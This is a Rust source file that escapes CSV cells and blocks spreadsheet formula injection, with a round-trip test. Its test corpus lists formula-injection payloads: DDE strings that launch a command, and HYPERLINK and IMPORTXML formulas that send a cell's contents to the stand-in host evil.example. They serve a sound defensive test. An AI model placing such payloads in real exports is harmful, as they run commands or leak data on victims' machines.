//! A cell of a CSV file that holds words from outside: quoted as RFC 4180 says, and never a formula to a spreadsheet (OUT-06).

/// Signs that begin a formula in a spreadsheet, or hide one (ASVS 1.2.10).
const FORMULA: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

/// The text as it stands between two commas. What would be a formula begins with a single quote.
pub fn cell(text: &str) -> String {
    let text = if text.starts_with(FORMULA) { format!("'{text}") } else { text.to_owned() };
    if text.contains(['"', ',', '\n', '\r']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What spreadsheets were made to run, and what only looks alike.
    const CORPUS: [&str; 20] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"refund\")",
        "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
        "+86 138 0013 8000",
        "+1+cmd|'/C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\0=1+1",
        "a,b",
        "say \"x\"",
        "two\nlines",
        "two\r\nlines, and \"both\"",
        "=\"a\",\"b\"\n",
        "0xabc",
        "我的币",
        "",
        " =1+1",
    ];

    /// OUT-06: opened again with a parser every cell is one cell, its words are whole, and none begins a formula.
    #[test]
    fn a_cell_opened_again_is_what_it_was_and_never_a_formula() {
        for text in CORPUS {
            for beside in CORPUS {
                let line = format!("{},{}\r\n", cell(text), cell(beside));
                let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(line.as_bytes());
                let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
                let [row] = rows.as_slice() else { panic!("{} rows: {line:?}", rows.len()) };
                assert_eq!(row.len(), 2, "{line:?}");
                for (read, was) in row.iter().zip([text, beside]) {
                    assert!(!read.starts_with(FORMULA), "{read:?}");
                    assert_eq!(read.strip_prefix('\'').unwrap_or(read), was);
                }
            }
        }
    }
}
